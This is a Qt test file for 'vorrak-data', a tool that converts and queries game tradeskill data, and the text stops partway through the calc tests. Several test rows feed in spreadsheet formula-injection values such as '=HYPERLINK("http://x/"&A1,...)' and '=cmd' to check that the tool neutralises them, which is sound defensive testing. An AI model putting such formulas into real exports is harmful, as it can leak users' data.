#include "help/helpdata.h"
#include "tests/support/fixtures.h"
#include "tests/support/scratchdir.h"
#include "tradeskill/tradeskilldata.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QLoggingCategory>
#include <QProcess>
#include <QRegularExpression>
#include <QTest>

#include <memory>
#include <sys/stat.h>
#include <sys/sysmacros.h>

namespace {

struct ToolRun
{
    int exitCode = -1;
    QByteArray out;
    QByteArray err;
};

// Every file below `dir` with its content, to show that a command wrote nothing.
QMap<QString, QByteArray> snapshot(const QString &dir)
{
    QMap<QString, QByteArray> files;
    QDirIterator it(dir, QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot | QDir::Hidden, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        files.insert(path, QFileInfo(path).isDir() ? QByteArray("<dir>") : readFile(path));
    }
    return files;
}

const char *const Example41 = "2A E5 10 A4 00 01 00 00 00 02 00 41 00 01 00 00 00 02 00 42 C8 01 00 01"
                              "00 00 00 02 00 43 00 00 00 02 00 32 00 00 00 04 D2";

} // namespace

class TestVorrakData : public ScratchTest
{
    Q_OBJECT

private:
    ToolRun run(const QStringList &arguments, const QString &standardOutputFile = QString())
    {
        QProcess process;
        if (!standardOutputFile.isEmpty())
            process.setStandardOutputFile(standardOutputFile);
        process.setWorkingDirectory(m_dir->path());
        // What a user gets by default: no logging rules from the test run.
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.remove(QStringLiteral("QT_LOGGING_RULES"));
        process.setProcessEnvironment(environment);
        process.start(QStringLiteral(VORRAK_DATA_TOOL), arguments);
        ToolRun result;
        if (!process.waitForFinished(60000) || process.exitStatus() != QProcess::NormalExit)
            return result;
        result.exitCode = process.exitCode();
        result.out = process.readAllStandardOutput();
        result.err = process.readAllStandardError();
        return result;
    }

private slots:
    void initTestCase()
    {
        QVERIFY(QFileInfo(QStringLiteral(VORRAK_DATA_TOOL)).isExecutable());
        QLoggingCategory::defaultCategory()->setEnabled(QtDebugMsg, false);
    }

    void sampleRoundTrip_data()
    {
        QTest::addColumn<QString>("source");
        QTest::addColumn<QString>("binary");
        QTest::newRow("data") << "vorrak-data.json" << "Vorrak.dat";
        QTest::newRow("help") << "vorrak-help.json" << "Vorrak.hlp";
    }

    void sampleRoundTrip()
    {
        QFETCH(QString, source);
        QFETCH(QString, binary);
        const QString sourcePath = QStringLiteral(VORRAK_SAMPLE_SOURCE_DIR "/") + source;
        const QString builtPath = QStringLiteral(VORRAK_SAMPLE_BUILD_DIR "/") + binary;
        const QByteArray built = readFile(builtPath);
        QVERIFY(!built.isEmpty());

        // The sample source is kept in exactly the form export prints.
        const ToolRun exported = run({QStringLiteral("export"), builtPath});
        QCOMPARE(exported.exitCode, 0);
        QCOMPARE(exported.err, QByteArray());
        QCOMPARE(exported.out, readFile(sourcePath));

        const ToolRun imported = run({QStringLiteral("import"), sourcePath, binary});
        QCOMPARE(imported.exitCode, 0);
        QCOMPARE(imported.out + imported.err, QByteArray());
        QCOMPARE(m_dir->read(binary), built);

        const ToolRun checked = run({QStringLiteral("check"), binary});
        QCOMPARE(checked.exitCode, 0);
        QVERIFY2(checked.out.startsWith(binary.toUtf8() + ": valid "), checked.out.constData());
        QCOMPARE(checked.err, QByteArray());
    }

    void sampleHasWhatTheProgramsShow()
    {
        QVERIFY(m_dir->write(QStringLiteral("Vorrak.dat"), readFile(QStringLiteral(VORRAK_SAMPLE_BUILD_DIR "/Vorrak.dat"))));
        QVERIFY(m_dir->write(QStringLiteral("Vorrak.hlp"), readFile(QStringLiteral(VORRAK_SAMPLE_BUILD_DIR "/Vorrak.hlp"))));
        TradeskillData data;
        QCOMPARE(data.load().status(), TradeskillData::LoadStatus::Loaded);
        QVERIFY(data.procGrpCount() >= 3);
        bool special = false, singleProcessGroup = false, fixed = false, scaled = false, item = false, skill = false;
        for (const ProcGroup &group : data.procGrps()) {
            singleProcessGroup = singleProcessGroup || group.procs.size() == 1;
            for (const Proc &proc : group.procs) {
                special = special || proc.isSpecial();
                QVERIFY2(proc.minQL <= proc.maxQL && proc.minQL >= 1, qPrintable(proc.name));
                for (const Req &req : proc.reqs) {
                    fixed = fixed || req.multiplier == QLatin1String("0");
                    scaled = scaled || req.multiplier.toDouble() != 0.0;
                    item = item || (req.t == 0 && req.id != 0);
                    skill = skill || req.t == 1;
                }
            }
        }
        QVERIFY(special && singleProcessGroup && fixed && scaled && item && skill);

        HelpData help;
        QCOMPARE(help.load().status(), HelpData::LoadStatus::Loaded);
        QVERIFY(help.count() >= 3);
        const QStringList ids = topicIds(help.topics());
        QVERIFY(ids.contains(QStringLiteral("1")) && ids.contains(QStringLiteral("1.1"))
                && ids.contains(QStringLiteral("2")));
    }

    void corpusRoundTrip_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::newRow("41-byte example") << hexBytes(Example41);
        QTest::newRow("empty data file") << hexBytes("2A E5 10 A4 00 00");
        QTest::newRow("empty help file") << hexBytes("E9 A7 14 3D 00 00");
        QTest::newRow("rich data") << dataFileBytes(richGroups());
        QTest::newRow("rich help") << helpFileBytes(richTopics());
        QTest::newRow("trailing bytes") << dataFileBytes(richGroups()) + hexBytes("00 00 00 01");
    }

    void corpusRoundTrip()
    {
        QFETCH(QByteArray, bytes);
        QVERIFY(m_dir->write(QStringLiteral("in.bin"), bytes));
        const ToolRun exported = run({QStringLiteral("export"), QStringLiteral("in.bin")});
        QCOMPARE(exported.exitCode, 0);
        QCOMPARE(exported.err, QByteArray());
        QVERIFY(m_dir->write(QStringLiteral("file.json"), exported.out));
        const ToolRun imported
            = run({QStringLiteral("import"), QStringLiteral("file.json"), QStringLiteral("out.bin")});
        QCOMPARE(imported.exitCode, 0);
        QCOMPARE(m_dir->read(QStringLiteral("out.bin")), bytes);
    }

    void exportsFollowTheSchema()
    {
        // The schema is checked by an independent validator where one is installed:
        // the system's Python first, which is where Debian's python3-jsonschema goes.
        const QString python = QFile::exists(QStringLiteral("/usr/bin/python3")) ? QStringLiteral("/usr/bin/python3")
                                                                               : QStringLiteral("python3");
        QProcess probe;
        probe.start(python, {QStringLiteral("-c"), QStringLiteral("import jsonschema")});
        if (!probe.waitForFinished(30000) || probe.exitStatus() != QProcess::NormalExit || probe.exitCode() != 0)
            QSKIP("python3 with jsonschema is not installed");

        QStringList files = {QStringLiteral(VORRAK_SAMPLE_SOURCE_DIR "/vorrak-data.json"),
                             QStringLiteral(VORRAK_SAMPLE_SOURCE_DIR "/vorrak-help.json")};
        const QList<QByteArray> corpus = {dataFileBytes(richGroups()) + "xy", helpFileBytes(richTopics())};
        for (qsizetype i = 0; i < corpus.size(); ++i) {
            const QString name = QStringLiteral("corpus%1").arg(i);
            QVERIFY(m_dir->write(name + QLatin1String(".bin"), corpus.at(i)));
            const ToolRun exported = run({QStringLiteral("export"), name + QLatin1String(".bin")});
            QCOMPARE(exported.exitCode, 0);
            QVERIFY(m_dir->write(name + QLatin1String(".json"), exported.out));
            files.append(m_dir->filePath(name + QLatin1String(".json")));
        }
        // One that the schema must refuse, so a schema that allows anything fails here.
        QVERIFY(m_dir->write(QStringLiteral("wrong.json"),
                             QByteArray(R"({"format": "vorrak-data", "groups": [{"name": "A", "procs": [)"
                                        R"({"name": "B", "maxQL": 256, "minQL": 1, "reqs": []}]}]})")));

        const QString script = QStringLiteral(
            "import json, sys, jsonschema\n"
            "schema = json.load(open(sys.argv[1], encoding='utf-8'))\n"
            "jsonschema.Draft202012Validator.check_schema(schema)\n"
            "validator = jsonschema.Draft202012Validator(schema)\n"
            "for path in sys.argv[2:]:\n"
            "    errors = list(validator.iter_errors(json.load(open(path, encoding='utf-8'))))\n"
            "    print(path, 'valid' if not errors else 'invalid')\n");
        QProcess validator;
        validator.start(python, QStringList{QStringLiteral("-c"), script,
                                                               QStringLiteral(VORRAK_SCHEMA_FILE)}
                                                       + files + QStringList{m_dir->filePath("wrong.json")});
        QVERIFY(validator.waitForFinished(60000));
        QCOMPARE(validator.exitCode(), 0);
        QStringList expected;
        for (const QString &file : files)
            expected.append(file + QLatin1String(" valid"));
        expected.append(m_dir->filePath("wrong.json") + QLatin1String(" invalid"));
        QCOMPARE(QString::fromUtf8(validator.readAllStandardOutput()).split('\n', Qt::SkipEmptyParts), expected);
    }

    void help_data()
    {
        QTest::addColumn<QString>("command");
        for (const char *command : {"export", "import", "check", "lint", "web", "calc"})
            QTest::newRow(command) << QString::fromLatin1(command);
    }

    // Every command answers --help, -h and "help COMMAND" alike, with its
    // own lines of the full usage text, and takes neither for a file name.
    void help()
    {
        QFETCH(QString, command);
        const ToolRun full = run({QStringLiteral("--help")});
        QCOMPARE(full.exitCode, 0);
        QCOMPARE(full.err, QByteArray());
        for (const QStringList &arguments : {QStringList{command, "--help"}, QStringList{command, "-h"},
                                             QStringList{"help", command}, QStringList{command, "x.dat", "--help"}}) {
            const ToolRun result = run(arguments);
            QCOMPARE(result.exitCode, 0);
            QCOMPARE(result.err, QByteArray());
            QVERIFY2(result.out.startsWith("Usage:\n  vorrak-data " + command.toUtf8() + ' '), result.out.constData());
            QVERIFY(full.out.contains(result.out.mid(int(qstrlen("Usage:\n")))));
        }
        QCOMPARE(QDir(m_dir->path()).entryList(QDir::NoDotAndDotDot | QDir::AllEntries), QStringList());
    }

    void errorsWriteNothing_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("error"); // a pattern for the one line on stderr

        const auto exact = [](const QString &line) { return QRegularExpression::escape(line); };
        const QString see = QStringLiteral(" (see vorrak-data --help)");
        // What each command says of the file cut inside its first requirement.
        const QString cutDamaged = exact("vorrak-data: cut.dat: damaged at byte 30: group 0 process 0 requirement 0 "
                                         "multiplier: the file ends before its length field is complete");
        QTest::newRow("no command") << QStringList() << 2 << exact("vorrak-data: missing command" + see);
        QTest::newRow("unknown command") << QStringList{"convert", "good.dat"} << 2
                                         << exact("vorrak-data: unknown command \"convert\"" + see);
        QTest::newRow("help for an unknown command") << QStringList{"help", "convert"} << 2
                                                     << exact("vorrak-data: unknown command \"convert\"" + see);
        QTest::newRow("export without file") << QStringList{"export"} << 2
                                             << exact("vorrak-data: export takes one file: vorrak-data export FILE [-o OUT]" + see);
        QTest::newRow("export two files") << QStringList{"export", "good.dat", "out.dat"} << 2
                                          << exact("vorrak-data: export takes one file: vorrak-data export FILE [-o OUT]" + see);
        QTest::newRow("import one file") << QStringList{"import", "ql.json"} << 2
                                         << exact("vorrak-data: import takes two files: vorrak-data import JSON OUT" + see);
        QTest::newRow("import three files") << QStringList{"import", "ql.json", "out.dat", "x"} << 2
                                            << exact("vorrak-data: import takes two files: vorrak-data import JSON OUT" + see);
        QTest::newRow("check without file") << QStringList{"check"} << 2
                                            << exact("vorrak-data: check takes one file: vorrak-data check FILE" + see);

        QTest::newRow("export missing file") << QStringList{"export", "missing.dat"} << 1
                                             << exact("vorrak-data: missing.dat: cannot read: No such file or directory");
        QTest::newRow("export a directory") << QStringList{"export", "outdir"} << 1
                                            << exact("vorrak-data: outdir: cannot read: it is a directory");
        QTest::newRow("export damaged file") << QStringList{"export", "cut.dat"} << 1 << cutDamaged;
        QTest::newRow("export unknown file") << QStringList{"export", "bad.dat"} << 1
                                             << exact("vorrak-data: bad.dat: not recognized at byte 0: unknown magic "
                                                      "number 0x58585858");
        QTest::newRow("check damaged file") << QStringList{"check", "cut.dat"} << 1 << cutDamaged;
        QTest::newRow("check short file") << QStringList{"check", "short.dat"} << 1
                                          << exact("vorrak-data: short.dat: not recognized at byte 0: the file is 3 "
                                                   "bytes long, too short for the magic number");
        QTest::newRow("check missing file") << QStringList{"check", "missing.dat"} << 1
                                            << exact("vorrak-data: missing.dat: cannot read: No such file or directory");

        QTest::newRow("import missing JSON") << QStringList{"import", "missing.json", "out.dat"} << 1
                                             << exact("vorrak-data: missing.json: cannot read: No such file or "
                                                      "directory");
        QTest::newRow("import broken JSON") << QStringList{"import", "broken.json", "out.dat"} << 1
                                            << exact("vorrak-data: broken.json: invalid JSON at line 1, column 38 "
                                                     "(byte 37): unterminated array");
        QTest::newRow("import broken JSON, later line")
            << QStringList{"import", "lines.json", "out.dat"} << 1
            << exact("vorrak-data: lines.json: invalid JSON at line 3, column 17 (byte 45): unterminated object");
        QTest::newRow("check JSON") << QStringList{"check", "good.json"} << 1
                                    << exact("vorrak-data: good.json: this is JSON, not a data or help file; "
                                             "vorrak-data import good.json OUT makes one of it");
        QTest::newRow("export damaged file to a file") << QStringList{"export", "cut.dat", "-o", "out.dat"} << 1
                                                       << cutDamaged;
        QTest::newRow("export into a directory") << QStringList{"export", "good.dat", "-o", "outdir"} << 1
                                                 << "^vorrak-data: outdir: cannot write: .+$";
        QTest::newRow("export -o without file") << QStringList{"export", "good.dat", "-o"} << 2
                                                << exact("vorrak-data: export takes one file: vorrak-data export "
                                                         "FILE [-o OUT]" + see);
        QTest::newRow("lint damaged file") << QStringList{"lint", "cut.dat"} << 1 << cutDamaged;
        QTest::newRow("web without output") << QStringList{"web", "good.dat"} << 2
                                            << exact("vorrak-data: web takes a data file, maybe a help file, and the "
                                                     "page to write: vorrak-data web DATA [HELP] OUT.html" + see);
        QTest::newRow("web with data as help") << QStringList{"web", "good.dat", "good.dat", "out.dat"} << 1
                                               << exact("vorrak-data: good.dat: this is tradeskill data, not help");
        QTest::newRow("import wrong type") << QStringList{"import", "types.json", "out.dat"} << 1
                                           << exact("vorrak-data: types.json: groups[0].name: expected a string or "
                                                    "null, got an array");
        QTest::newRow("import QL out of range") << QStringList{"import", "ql.json", "out.dat"} << 1
                                                << exact("vorrak-data: ql.json: groups[0].procs[0].minQL: expected an "
                                                         "integer from 0 to 255, got 300");
        QTest::newRow("import t out of range") << QStringList{"import", "t.json", "new.dat"} << 1
                                               << exact("vorrak-data: t.json: groups[0].procs[0].reqs[0].t: expected "
                                                        "an integer from 0 to 255, got -1");
        QTest::newRow("import too many topics") << QStringList{"import", "big.json", "out.dat"} << 1
                                                << exact("vorrak-data: big.json: topics: 65536 entries, but the file "
                                                         "holds at most 65535");
        QTest::newRow("import into a directory") << QStringList{"import", "good.json", "outdir"} << 1
                                                 << "^vorrak-data: outdir: cannot write: .+$";
        QTest::newRow("import into a system directory") << QStringList{"import", "good.json", "/sys/Vorrak.dat"} << 1
                                                        << "^vorrak-data: /sys/Vorrak.dat: cannot write: .+$";
        QTest::newRow("import into a missing directory")
            << QStringList{"import", "good.json", "nowhere/Vorrak.dat"} << 1
            << "^vorrak-data: nowhere/Vorrak.dat: cannot write: .+$";

        // An output never replaces an input, nor a file of another kind.
        const QString ambiguous = QStringLiteral("vorrak-data: web: \"%1\" could be the help file or the page to "
                                                 "write; name the page last: vorrak-data web DATA [HELP] OUT.html")
            + see;
        QTest::newRow("web, the page forgotten") << QStringList{"web", "good.dat", "good.hlp"} << 2
                                                 << exact(ambiguous.arg("good.hlp"));
        QTest::newRow("web, the page forgotten, JSON forms") << QStringList{"web", "good.json", "help.json"} << 2
                                                             << exact(ambiguous.arg("help.json"));
        QTest::newRow("web over its own input") << QStringList{"web", "good.dat", "good.dat"} << 1
                                                << exact("vorrak-data: good.dat: not replaced: it is one of this "
                                                         "command's inputs");
        QTest::newRow("import over its own input") << QStringList{"import", "good.json", "good.json"} << 1
                                                   << exact("vorrak-data: good.json: not replaced: it is one of this "
                                                            "command's inputs");
        QTest::newRow("web over a data file") << QStringList{"web", "good.dat", "good.hlp", "other.dat"} << 1
                                              << exact("vorrak-data: other.dat: not replaced: it is a Vorrak data "
                                                       "file, not a web page");
        QTest::newRow("export over a help file") << QStringList{"export", "good.dat", "-o", "good.hlp"} << 1
                                                 << exact("vorrak-data: good.hlp: not replaced: it is a Vorrak help "
                                                          "file, not the JSON form of a data file");
        QTest::newRow("export over help JSON") << QStringList{"export", "good.dat", "-o", "help.json"} << 1
                                               << exact("vorrak-data: help.json: not replaced: it is the JSON form "
                                                        "of a help file, not the JSON form of a data file");
        QTest::newRow("import help as the data file") << QStringList{"import", "help.json", "other.dat"} << 1
                                                      << exact("vorrak-data: other.dat: not replaced: it is a Vorrak "
                                                               "data file, not a Vorrak help file");
        QTest::newRow("export over another file") << QStringList{"export", "good.dat", "-o", "out.dat"} << 1
                                                  << exact("vorrak-data: out.dat: not replaced: it is a file of "
                                                           "another kind, not the JSON form of a data file");
    }

    void errorsWriteNothing()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, exitCode);
        QFETCH(QString, error);

        const QByteArray good = hexBytes(Example41);
        QVERIFY(m_dir->write(QStringLiteral("good.dat"), good));
        QVERIFY(m_dir->write(QStringLiteral("cut.dat"), good.left(30)));
        QVERIFY(m_dir->write(QStringLiteral("bad.dat"), QByteArray("XXXXXXXX")));
        QVERIFY(m_dir->write(QStringLiteral("short.dat"), hexBytes("2A E5 10")));
        QVERIFY(m_dir->write(QStringLiteral("out.dat"), QByteArray("old content")));
        QVERIFY(m_dir->write(QStringLiteral("other.dat"), good));
        QVERIFY(m_dir->write(QStringLiteral("good.hlp"), hexBytes("E9 A7 14 3D 00 00")));
        QVERIFY(m_dir->write(QStringLiteral("help.json"), QByteArray(R"({"format": "vorrak-help", "topics": []})")));
        QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("outdir")));
        QVERIFY(m_dir->write(QStringLiteral("outdir/keep"), QByteArray("kept")));
        QVERIFY(m_dir->write(QStringLiteral("good.json"), QByteArray(R"({"format": "vorrak-data", "groups": []})")));
        QVERIFY(m_dir->write(QStringLiteral("broken.json"), QByteArray(R"({"format": "vorrak-data", "groups": [)")));
        QVERIFY(m_dir->write(QStringLiteral("lines.json"),
                             QByteArray("{\n  \"format\": \"vorrak-data\",\n  \"groups\": [] \"x\"\n}\n")));
        QVERIFY(m_dir->write(QStringLiteral("types.json"),
                             QByteArray(R"({"format": "vorrak-data", "groups": [{"name": ["A"], "procs": []}]})")));
        QVERIFY(m_dir->write(QStringLiteral("ql.json"),
                             QByteArray(R"({"format": "vorrak-data", "groups": [{"name": "A", "procs": [)"
                                        R"({"name": "B", "maxQL": 1, "minQL": 300, "reqs": []}]}]})")));
        QVERIFY(m_dir->write(QStringLiteral("t.json"),
                             QByteArray(R"({"format": "vorrak-data", "groups": [{"name": "A", "procs": [)"
                                        R"({"name": "B", "maxQL": 1, "minQL": 1, "reqs": [)"
                                        R"({"name": "C", "multiplier": "2", "t": -1, "id": 0}]}]}]})")));
        QStringList topics;
        topics.fill(QStringLiteral(R"({"id": "1", "header": "h", "body": null})"), 65536);
        QVERIFY(m_dir->write(QStringLiteral("big.json"),
                             R"({"format": "vorrak-help", "topics": [)" + topics.join(',').toUtf8() + "]}"));
        const QMap<QString, QByteArray> before = snapshot(m_dir->path());

        const ToolRun result = run(arguments);
        QCOMPARE(result.exitCode, exitCode);
        QCOMPARE(result.out, QByteArray());
        QVERIFY2(result.err.endsWith('\n') && result.err.count('\n') == 1, result.err.constData());
        const QString line = QString::fromUtf8(result.err).chopped(1);
        QVERIFY2(QRegularExpression(QStringLiteral("^") + error + QStringLiteral("$")).match(line).hasMatch(),
                 qPrintable(line));
        QCOMPARE(snapshot(m_dir->path()), before);
    }

    // calc on the sample data in the current directory (or --file), and
    // lint: exact output, exit status and the one error line.
    void calcAndLint_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QByteArray>("out");
        QTest::addColumn<QByteArray>("err");

        const QByteArray see = " (see vorrak-data --help)\n";
        QTest::newRow("list") << QStringList{"calc", "--list"} << 0
                              << QByteArray("1 Weaponsmithing\n  1 Iron Shortsword: QL 1 to 120\n  2 Tempered "
                                            "Greatsword: QL 60 to 250\n  3 Blade of the First Forge: QL 200 (special)\n"
                                            "2 Alchemy\n  1 Minor Healing Draught: QL 1 to 100\n  2 Elixir of Clear "
                                            "Sight: QL 30 to 180\n3 Tailoring\n  1 Wool Cloak: QL 1 to 80\n  2 Silk "
                                            "Gloves: QL 20 to 150\n4 Jewelcrafting\n  1 Polished Garnet Ring: QL 40 to "
                                            "220\n")
                              << QByteArray();
        const QByteArray shortsword50 = "Iron Shortsword\t50\nTools/Items\nIron Ingot\t25\nLeather Grip\t13\n"
                                        "Smithing Hammer\tFixed\nSkills\nMechanical Engineering\t20\nWeaponsmithing\t63\n";
        QTest::newRow("amounts by position") << QStringList{"calc", "1", "1", "50"} << 0 << shortsword50 << QByteArray();
        QTest::newRow("amounts by name prefix") << QStringList{"calc", "WEAP", "iron s", "50"} << 0 << shortsword50
                                                << QByteArray();
        QTest::newRow("amounts from --file") << QStringList{"calc", "--file", "other/data.dat", "1", "1", "50"} << 0
                                             << shortsword50 << QByteArray();
        QTest::newRow("amounts as JSON") << QStringList{"calc", "--json", "1", "3", "200"} << 0
                                         << QByteArray("{\n    \"group\": \"Weaponsmithing\",\n    \"items\": [\n"
                                                       "        {\n            \"amount\": \"Fixed\",\n            "
                                                       "\"name\": \"Ancestral Anvil\"\n        },\n        {\n"
                                                       "            \"amount\": \"10\",\n            \"name\": "
                                                       "\"Starmetal Ingot\"\n        }\n    ],\n    \"process\": "
                                                       "\"Blade of the First Forge\",\n    \"ql\": 200,\n    "
                                                       "\"skills\": [\n        {\n            \"amount\": \"Fixed\",\n"
                                                       "            \"name\": \"Runecarving\"\n        },\n        {\n"
                                                       "            \"amount\": \"500\",\n            \"name\": "
                                                       "\"Weaponsmithing\"\n        }\n    ]\n}\n")
                                         << QByteArray();
        QTest::newRow("highest QL") << QStringList{"calc", "1", "1", "--skill", "Weaponsmithing=100"} << 0
                                    << QByteArray("Iron Shortsword: highest QL 80 (range 1 to 120)\nlimited by: "
                                                  "Weaponsmithing\nunknown, not taken into account: Mechanical "
                                                  "Engineering\n")
                                    << QByteArray();
        QTest::newRow("highest QL is the top") << QStringList{"calc", "1", "1", "--skill", "Weaponsmithing=150",
                                                              "--skill", "Mechanical Engineering=48"}
                                               << 0
                                               << QByteArray("Iron Shortsword: highest QL 120 (range 1 to 120)\n"
                                                             "limited by: the process's highest QL\n")
                                               << QByteArray();
        QTest::newRow("highest QL out of reach") << QStringList{"calc", "1", "3", "--skill", "Weaponsmithing=499"} << 0
                                                 << QByteArray("Blade of the First Forge: none of its QLs (200) is "
                                                               "within reach\nlimited by: Weaponsmithing\n")
                                                 << QByteArray();
        QTest::newRow("table") << QStringList{"calc", "1", "1", "--table", "1-3"} << 0
                               << QByteArray("QL,Iron Ingot (item QL),Leather Grip (item QL),Smithing Hammer (item QL),"
                                             "Mechanical Engineering (skill value),Weaponsmithing (skill value)\n"
                                             "1,1,1,Fixed,1,2\n2,1,1,Fixed,1,3\n3,2,1,Fixed,2,4\n")
                               << QByteArray();
        QTest::newRow("table of a special process") << QStringList{"calc", "1", "3", "--table"} << 0
                                                    << QByteArray("QL,Ancestral Anvil (item QL),Starmetal Ingot (item "
                                                                  "QL),Runecarving (skill value),Weaponsmithing (skill "
                                                                  "value)\n200,Fixed,10,Fixed,500\n")
                                                    << QByteArray();
        // Names a spreadsheet would take for formulas get an apostrophe; a tab
        // or line break in a name can't start a cell or line of its own;
        // amounts keep every digit, negative ones stay numbers; JSON is exact.
        const QByteArray zeros(400, '0');
        QTest::newRow("formulas made inert") << QStringList{"calc", "--file", "other/hostile.json", "1", "1", "1"} << 0
                                             << "'@Proc\t1\nTools/Items\n-2.5\t-12345678.9\n'=HYPERLINK(\"http://x/\"&A1,"
                                                "\"Click\")\t-0.5\nSkills\n'+skill\t1\nTab here =cmd\t1" + zeros + "\n"
                                             << QByteArray();
        QTest::newRow("formulas made inert in the table")
            << QStringList{"calc", "--file", "other/hostile.json", "1", "1", "--table"} << 0
            << "QL,'-2.5 (item QL),\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"Click\"\") (item QL)\",'+skill (skill value),"
               "\"Tab\there\n=cmd (skill value)\"\n1,-12345678.9,-0.5,1,1" + zeros + "\n2,-24691357.8,-1,1,2" + zeros + "\n"
            << QByteArray();
        QTest::newRow("formulas made inert in the skill answer")
            << QStringList{"calc", "--file", "other/hostile.json", "=", "@", "--skill", "+skill=1"} << 0
            << QByteArray("'@Proc: highest QL 2 (range 1 to 2)\nlimited by: the process's highest QL\nunknown, not "
                          "taken into account: Tab here =cmd\n")
            << QByteArray();
        QTest::newRow("formulas made inert in the list") << QStringList{"calc", "--file", "other/hostile.json", "--list"}
                                                         << 0 << QByteArray("1 '=Group\n  1 '@Proc: QL 1 to 2\n")
                                                         << QByteArray();
        QTest::newRow("formulas left exact in JSON")
            << QStringList{"calc", "--json", "--file", "other/hostile.json", "1", "1", "2"} << 0
            << "{\n    \"group\": \"=Group\",\n    \"items\": [\n        {\n            \"amount\": \"-24691357.8\",\n"
               "            \"name\": \"-2.5\"\n        },\n        {\n            \"amount\": \"-1\",\n            "
               "\"name\": \"=HYPERLINK(\\\"http://x/\\\"&A1,\\\"Click\\\")\"\n        }\n    ],\n    \"process\": "
               "\"@Proc\",\n    \"ql\": 2,\n    \"skills\": [\n        {\n            \"amount\": \"1\",\n            "
               "\"name\": \"+skill\"\n        },\n        {\n            \"amount\": \"2" + zeros + "\",\n            "
               "\"name\": \"Tab\\there\\n=cmd\"\n        }\n    ]\n}\n"
            << QByteArray();

        QTest::newRow("unknown group") << QStringList{"calc", "Cooking", "1", "1"} << 1 << QByteArray()
                                       << QByteArray("vorrak-data: calc: no group \"Cooking\"; there are 1 "
                                                     "\"Weaponsmithing\", 2 \"Alchemy\", 3 \"Tailoring\", 4 "
                                                     "\"Jewelcrafting\"\n");
        QTest::newRow("ambiguous group") << QStringList{"calc", "--file", "other/mistakes.json", "a", "1", "1"} << 1
                                         << QByteArray()
                                         << QByteArray("vorrak-data: calc: group \"a\" could be 1 \"A\", 3 \"A\"\n");
        QTest::newRow("unknown process") << QStringList{"calc", "2", "Iron", "1"} << 1 << QByteArray()
                                         << QByteArray("vorrak-data: calc: no process \"Iron\" in group 2 \"Alchemy\"; "
                                                       "there are 1 \"Minor Healing Draught\", 2 \"Elixir of Clear "
                                                       "Sight\"\n");
        QTest::newRow("position past the end") << QStringList{"calc", "5", "1", "1"} << 1 << QByteArray()
                                               << QByteArray("vorrak-data: calc: no group \"5\"; there are 1 "
                                                             "\"Weaponsmithing\", 2 \"Alchemy\", 3 \"Tailoring\", 4 "
                                                             "\"Jewelcrafting\"\n");
        QTest::newRow("QL out of range") << QStringList{"calc", "1", "2", "59"} << 1 << QByteArray()
                                         << QByteArray("vorrak-data: calc: QL 59 is outside the range of \"Tempered "
                                                       "Greatsword\": 60 to 250\n");
        QTest::newRow("table out of range") << QStringList{"calc", "1", "3", "--table", "199-200"} << 1 << QByteArray()
                                            << QByteArray("vorrak-data: calc: QL 199 is outside the range of \"Blade "
                                                          "of the First Forge\": 200\n");
        QTest::newRow("no data file") << QStringList{"calc", "--file", "missing.dat", "--list"} << 1 << QByteArray()
                                      << QByteArray("vorrak-data: missing.dat: cannot read: No such file or "
                                                    "directory\n");
        QTest::newRow("help file as data") << QStringList{"calc", "--file", "other/help.hlp", "--list"} << 1
                                           << QByteArray()
                                           << QByteArray("vorrak-data: other/help.hlp: this is help, not tradeskill "
                                                         "data\n");
        QTest::newRow("QL not a number") << QStringList{"calc", "1", "1", "fifty"} << 2 << QByteArray()
                                         << "vorrak-data: calc: QL \"fifty\" is not a whole number" + see;
        QTest::newRow("QL missing") << QStringList{"calc", "1", "1"} << 2 << QByteArray()
                                    << "vorrak-data: calc needs GROUP PROCESS QL, or --list" + see;
        QTest::newRow("skill with a QL") << QStringList{"calc", "1", "1", "5", "--skill", "Weaponsmithing=1"} << 2
                                         << QByteArray()
                                         << "vorrak-data: calc: --skill takes GROUP and PROCESS, no QL" + see;
        QTest::newRow("skill without value") << QStringList{"calc", "1", "1", "--skill", "Weaponsmithing"} << 2
                                             << QByteArray()
                                             << "vorrak-data: calc: --skill needs NAME=VALUE with a whole number as "
                                                "VALUE" + see;
        QTest::newRow("two questions") << QStringList{"calc", "1", "1", "--table", "--skill", "Weaponsmithing=1"} << 2
                                       << QByteArray()
                                       << "vorrak-data: calc: --list, --skill, --table, --can-make and --plan go one "
                                          "at a time" + see;
        QTest::newRow("backwards table") << QStringList{"calc", "1", "1", "--table", "9-3"} << 2 << QByteArray()
                                         << "vorrak-data: calc: --table 9-3 runs backwards" + see;
        QTest::newRow("skill names in any case and by their start")
            << QStringList{"calc", "weap", "temp", "--skill", "weaponsmithing=400", "--skill", "TEMP=270"} << 0
            << QByteArray("Tempered Greatsword: highest QL 180 (range 60 to 250)\nlimited by: Tempering\n")
            << QByteArray();
        QTest::newRow("skill not of the process")
            << QStringList{"calc", "1", "1", "--skill", "Weaponsmith=100", "--skill", "Tempering=3"} << 1 << QByteArray()
            << QByteArray("vorrak-data: calc: no skill \"Tempering\" in process \"Iron Shortsword\"; there are "
                          "\"Mechanical Engineering\", \"Weaponsmithing\"\n");
        QTest::newRow("skill given twice") << QStringList{"calc", "1", "1", "--skill", "weap=1", "--skill",
                                                          "Weaponsmithing=2"}
                                           << 1 << QByteArray()
                                           << QByteArray("vorrak-data: calc: skill \"Weaponsmithing\" is given twice\n");
        QTest::newRow("can make")
            << QStringList{"calc", "--can-make", "--skill", "weaponsmithing=100", "--skill", "temp=80"} << 0
            << QByteArray("Group\tProcess\tQL\tHighest QL\tLimited by\n"
                          "Weaponsmithing\tIron Shortsword\t1 to 120\t80\tWeaponsmithing\n"
                          "Weaponsmithing\tTempered Greatsword\t60 to 250\tnone\tWeaponsmithing 120 (20 missing), "
                          "Tempering 90 (10 missing)\n"
                          "Weaponsmithing\tBlade of the First Forge\t200\tnone\tWeaponsmithing 500 (400 missing)\n"
                          "Alchemy\tMinor Healing Draught\t1 to 100\t100\tthe process's highest QL\n"
